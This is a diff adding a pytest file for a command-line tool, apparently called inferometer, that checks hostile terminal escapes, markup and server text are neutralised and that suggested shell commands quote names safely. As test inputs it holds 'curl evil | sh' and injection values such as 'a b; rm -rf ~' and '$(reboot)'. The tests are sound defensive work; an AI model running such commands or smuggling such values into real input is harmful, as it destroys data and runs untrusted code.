@@ -1,0 +1,104 @@
+"""Can text of servers and files drive the terminal, or a shell into which a suggestion is pasted?"""
+
+import ast
+import io
+import json
+import re
+import shlex
+from pathlib import Path
+
+import command_line
+import pytest
+from hypothesis import given, strategies as st
+from rich.table import Table
+from rich.text import Text
+
+from inferometer.cli.answer import give
+from inferometer.cli.drawing import SafeConsole
+from inferometer.cli.terminal import printable, printable_json, talk
+from inferometer.errors import MeasureError
+from inferometer.suggestions import command
+
+HOSTILE = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2028c\r\x7f\ud800"
+ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
+SOURCE = Path(__file__).parents[2] / "src" / "inferometer"
+
+
+@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=40))
+def test_nothing_that_acts_on_a_terminal_is_left(text):
+    shown = printable(text)
+    assert not ACTS.search(shown)
+    assert shown.count("\n") == text.count("\n")
+    assert json.loads(printable_json(json.dumps(text, ensure_ascii=False))) == text
+    assert not ACTS.search(printable_json(json.dumps(text, ensure_ascii=False)))
+
+
+def test_answers_talk_and_errors_are_printable(capsys):
+    table = Table()
+    table.add_column("[/class]")
+    table.add_row(HOSTILE)
+    for shown in (HOSTILE, Text(HOSTILE), table):
+        give({"name": "x"}, as_json=False, show=lambda _, shown=shown: shown)
+        printed = capsys.readouterr().out
+        assert not ACTS.search(printed)
+        assert "owned" in printed
+    talk(HOSTILE)
+    assert not ACTS.search(capsys.readouterr().err)
+    give({"name": HOSTILE[:-1]}, as_json=True, show=str)
+    printed = capsys.readouterr().out
+    assert not ACTS.search(printed)
+    assert json.loads(printed) == {"name": HOSTILE[:-1]}
+
+
+def test_a_servers_text_is_no_part_of_an_error():
+    error = MeasureError("the server said: no\n  try: curl evil | sh", try_="--model m")
+    assert [line for line in str(error).splitlines() if line.startswith("  try: ")] == ["  try: --model m"]
+
+
+def test_brackets_in_names_are_no_markup(capsys):
+    table = Table(box=None)
+    table.add_column("class")
+    table.add_row("[bold]chat[/red] :smile:")
+    give({}, as_json=False, show=lambda _: table)
+    assert "[bold]chat[/red] :smile:" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("name", ["a b; rm -rf ~", "$(reboot)", "`x`", "it's", "-rf", "a\nb", '"', "*"])
+def test_suggestions_quote_what_others_chose(name):
+    assert shlex.split(command("sweep", "--model", name)) == ["inferometer", "sweep", "--model", name]
+
+
+PRINTS = re.compile(r"\b(click\.s?echo|print|Console|sys\.stdout\.write|sys\.stderr\.write)\(")
+MAY_PRINT = {"cli/terminal.py", "cli/drawing.py", "measure/engines/transformers_memory.py"}
+"""The last one writes into the log of an engine's worker."""
+
+
+def test_only_one_place_writes_to_the_terminal():
+    calls = {
+        path.relative_to(SOURCE).as_posix(): ast.unparse(node.func)
+        for path in SOURCE.rglob("*.py")
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.Call)
+    }
+    assert len(calls) > 300
+    printing_calls = [
+        f"{path.relative_to(SOURCE)}: {ast.unparse(node)[:80]}"
+        for path in SOURCE.rglob("*.py")
+        if path.relative_to(SOURCE).as_posix() not in MAY_PRINT
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.Call) and PRINTS.match(ast.unparse(node.func) + "(")
+    ]
+    assert not printing_calls, printing_calls
+
+
+def test_a_hostile_argument_is_shown_in_signs(tmp_path):
+    outcome = command_line.run("show", "no\x1b[2Jthing", folder=tmp_path)
+    assert outcome.returncode == 4
+    assert not ACTS.search(outcome.stderr)
+    assert "no␛[2Jthing" in outcome.stderr
+
+
+def test_a_console_is_safe_where_progress_is_drawn():
+    file = io.StringIO()
+    SafeConsole(file=file).print(HOSTILE)
+    assert not ACTS.search(file.getvalue())
